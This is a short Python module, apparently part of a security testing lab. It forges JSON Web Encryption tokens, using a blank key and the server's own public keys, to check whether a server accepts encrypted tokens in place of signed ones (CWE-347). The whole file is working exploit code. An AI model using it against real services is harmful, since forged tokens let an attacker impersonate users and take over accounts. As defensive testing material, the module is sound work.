"""Encrypt a token to the server instead of signing it.

Exploits a library that reads encrypted tokens where signed ones are due: everyone may encrypt to
a public key, so that what comes out of it says nothing about who wrote it.
Source: CWE-347 Improper Verification of Cryptographic Signature,
https://cwe.mitre.org/data/definitions/347.html
"""

import json

from jose import jwe

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge
from attacks.lab.public_keys import public_keys
from attacks.lab.target import Target

BLANK = b"\0" * 32  # for a server that gives no key out


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Write a token of five parts (RFC 7516, section 7.1) to each key that the server gives out."""
    victim = target.enrol()
    claims = json.dumps(target.claims_about(victim))
    answers = {"a blank key": target.read(jwe.encrypt(claims, BLANK, "A256GCM", "dir").decode())}
    for name, key in public_keys(target):
        token = jwe.encrypt(claims, key, "A256GCM", "RSA-OAEP").decode()
        answers[f"encrypted to {name}"] = target.read(token)
    return judge(answers)
